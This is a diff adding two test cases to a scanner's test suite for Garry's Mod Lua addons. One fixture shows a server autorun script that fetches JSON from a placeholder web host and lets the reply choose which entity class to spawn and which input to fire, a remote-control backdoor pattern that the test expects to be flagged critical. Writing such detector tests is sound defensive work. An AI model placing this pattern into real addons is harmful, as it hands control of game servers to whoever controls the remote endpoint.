@@ -569,4 +569,33 @@ describe('runstring', () => {
     });
     expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
   });
+  it('a web reply that names the input fired on an entity of a class it chooses', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_events.lua': [
+        'local function fire(class, input, param)',
+        ' local ent = ents.Create(class)',
+        ' ent:Spawn()',
+        ' ent:Fire(input, param, 0)',
+        'end',
+        'http.Fetch("https://calendar.example.invalid/events.json", function(body)',
+        ' local cal = util.JSONToTable(body)',
+        ' for _, step in ipairs(cal.logic) do fire(step[1], step[2], step[3]) end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a web reply that only picks when the addon fires its own input', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_events.lua': [
+        'http.Fetch("https://calendar.example.invalid/events.json", function(body)',
+        ' local cal = util.JSONToTable(body)',
+        ' local relay = ents.Create("logic_relay")',
+        ' relay:Spawn()',
+        ' relay:Fire("Trigger", cal.delay, 0)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeLessThan(RANK.high);
+  });
 });
